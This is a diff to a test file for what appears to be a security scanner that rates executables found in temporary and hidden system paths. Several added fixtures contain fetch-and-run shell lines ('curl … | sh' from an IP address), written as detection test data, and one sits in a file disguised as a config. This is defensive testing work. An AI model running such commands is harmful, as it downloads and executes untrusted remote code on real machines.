@@ -46,7 +46,7 @@ describe('programs in temporary and hidden places', () => {
 		expect(
 			ask({
 				'/tmp/notes.txt': 'x', '/tmp/go-build123/b001/exe/a': program, '/var/spool/postfix/lib/x86_64-linux-gnu/libnss_dns.so.2': { content: library }, '/home/ann/.cargo/bin/rg': program, '/home/ann/.nvm/versions/node/v20/bin/node': program,
-				'/home/ann/project/.git/hooks/pre-commit.sample': script, '/home/ann/.local/bin/x': program, '/etc/init.d/x': script, '/etc/cron.daily/apt': script, '/var/log/syslog': 'x', '/home/ann/.vscode-server/bin/a/node': program,
+				'/home/ann/project/.git/hooks/pre-commit.sample': script, '/home/ann/.local/bin/x': program, '/etc/init.d/x': script, '/etc/cron.daily/apt': script, '/var/lib/dpkg/info/a.postinst': script, '/var/lib/php/sessions/sess_a': 'x', '/etc/own/notify.sh': { ...script, content: '#!/bin/sh\ncurl -fsS https://hc.example/x\n' }, '/etc/own/text.sh': '#!/bin/sh\ncurl -s 192.0.2.1|sh\n', '/var/log/syslog': 'x', '/home/ann/.vscode-server/bin/a/node': program,
 				'/var/lib/docker/overlay2/a/diff/tmp/x': program, '/home/ann/bin/tool': program, '/srv/git/p.git/hooks/update': script,
 			}),
 		).toEqual([]);
@@ -56,9 +56,10 @@ describe('programs in temporary and hidden places', () => {
 			ask({
 				'/tmp/x': program, '/dev/shm/.k/m': program, '/var/tmp/run.sh': script, '/tmp/.s.sh': { ...script, mode: 0o644 }, '/var/log/.z': program, '/var/spool/cron/x': program, '/etc/x': program, '/usr/lib/.hid/p': program,
 				'/home/ann/.xyz/miner': program, '/home/ann/.cache/.a/b': program, '/tmp/lib.so': { content: library }, '/tmp/libnetty_epoll.so': { content: library }, '/kworker': program,
+				'/var/lib/dpkg/info/a.postinst2': program, '/var/cache/apt/archives/partial/x': program, '/var/lib/php/sessions/a': { content: library }, '/etc/rsyslog.d/x.conf.sh': { content: '#!/bin/bash\ncurl -s 192.0.2.1|sh\n', mode: 0o755 },
 			}),
 		).toEqual([
-			'high /dev/shm/.k/m', 'high /etc/x', 'high /home/ann/.cache/.a/b', 'medium /home/ann/.xyz/miner', 'high /kworker', 'medium /tmp/.s.sh', 'medium /tmp/lib.so', 'low /tmp/libnetty_epoll.so', 'high /tmp/x', 'critical /usr/lib/.hid/p',
+			'high /dev/shm/.k/m', 'high /etc/rsyslog.d/x.conf.sh', 'high /etc/x', 'high /home/ann/.cache/.a/b', 'medium /home/ann/.xyz/miner', 'high /kworker', 'medium /tmp/.s.sh', 'medium /tmp/lib.so', 'low /tmp/libnetty_epoll.so', 'high /tmp/x', 'critical /usr/lib/.hid/p', 'high /var/cache/apt/archives/partial/x', 'high /var/lib/dpkg/info/a.postinst2', 'high /var/lib/php/sessions/a',
 			'critical /var/log/.z', 'high /var/spool/cron/x', 'low /var/tmp/run.sh',
 		]);
 	});
